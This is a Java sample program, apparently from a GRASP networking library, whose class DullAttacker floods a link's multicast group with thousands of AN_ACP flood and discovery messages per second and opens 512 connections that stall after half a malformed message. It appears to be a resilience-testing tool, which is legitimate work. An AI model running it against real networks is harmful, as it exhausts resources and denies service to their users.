package io.grasp.samples;

import io.grasp.model.Locator;
import io.grasp.model.Objective;
import io.grasp.model.SessionId;
import io.grasp.model.TaggedObjective;
import io.grasp.substrate.netty.NettyConfig;
import io.grasp.wire.Discovery;
import io.grasp.wire.Flood;
import io.grasp.wire.GraspMessage;
import io.grasp.wire.MessageEncoder;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.Inet6Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/**
 * An outsider on a link: sends floods and discoveries of AN_ACP from all its addresses, 3,000 in a second, and opens
 * connections that stay silent after half a message.
 */
final class DullAttacker {
    private static final int DATAGRAMS = 15_000;
    private static final long INTERVAL = TimeUnit.SECONDS.toNanos(1) / 3000;
    private static final Objective AN_ACP = Objective.discoverable("AN_ACP").withLoopCount(1);

    private DullAttacker() {}

    /** Arguments: the link, the address of the victim on it, and the ports at which it accepts connections. */
    public static void main(String[] args) throws IOException {
        NetworkInterface link = NetworkInterface.getByName(args[0]);
        List<Inet6Address> sources = link.inetAddresses()
                .filter(Inet6Address.class::isInstance)
                .map(Inet6Address.class::cast)
                .toList();
        List<DatagramSocket> sockets = new ArrayList<>();
        for (Inet6Address source : sources) {
            sockets.add(new DatagramSocket(new InetSocketAddress(source, 0)));
        }
        InetAddress victim =
                Inet6Address.getByAddress(null, InetAddress.getByName(args[1]).getAddress(), link);
        List<Socket> connections = connect(victim, sources, List.of(args).subList(2, args.length));
        InetSocketAddress group = new InetSocketAddress(
                Inet6Address.getByAddress(
                        null, InetAddress.getByName("ff02::13").getAddress(), link),
                NettyConfig.GRASP_LISTEN_PORT);
        long next = System.nanoTime();
        for (int i = 0; i < DATAGRAMS; i++) {
            int from = i % sources.size();
            byte[] datagram = MessageEncoder.encode(message(i, sources.get(from)));
            sockets.get(from).send(new DatagramPacket(datagram, datagram.length, group));
            next += INTERVAL;
            LockSupport.parkNanos(next - System.nanoTime());
            if (i == DATAGRAMS / 3) {
                System.out.println("attacking with " + connections.size() + " connections");
            }
        }
        System.out.println("done");
        LockSupport.park();
    }

    /** None replaces another: each flood has its own tag, and each discovery its own Session ID. */
    private static GraspMessage message(int i, Inet6Address source) {
        SessionId session = new SessionId(1_000_000 + i);
        return i % 2 == 0
                ? new Flood(
                        session,
                        source,
                        600_000,
                        List.of(new TaggedObjective(
                                AN_ACP.withValue("x".repeat(1000)), new Locator.Ipv6(source, Locator.TCP, 1 + i))))
                : new Discovery(session, source, AN_ACP, List.of());
    }

    private static List<Socket> connect(InetAddress victim, List<Inet6Address> sources, List<String> ports)
            throws IOException {
        List<Socket> connections = new ArrayList<>();
        for (int i = 0; i < 512; i++) {
            Socket socket = new Socket();
            connections.add(socket);
            try {
                socket.bind(new InetSocketAddress(sources.get(i % sources.size()), 0));
                socket.connect(new InetSocketAddress(victim, Integer.parseInt(ports.get(i % ports.size()))), 1000);
                byte[] half = new byte[1500];
                half[0] = (byte) 0x83; // an array that does not end
                half[1] = 0x59; // with a byte string of 2000 bytes
                half[2] = 0x07;
                half[3] = (byte) 0xD0;
                socket.getOutputStream().write(half);
            } catch (IOException refused) {
                // not served at this address, or one too many
            }
        }
        return connections;
    }
}
